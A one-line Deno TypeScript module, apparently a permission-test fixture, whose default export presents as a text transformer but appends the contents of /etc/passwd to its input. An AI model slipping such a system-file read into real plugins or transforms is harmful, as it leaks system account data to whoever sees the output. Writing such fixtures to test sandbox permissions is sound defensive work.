export default (text: string): string => text + Deno.readTextFileSync("/etc/passwd");
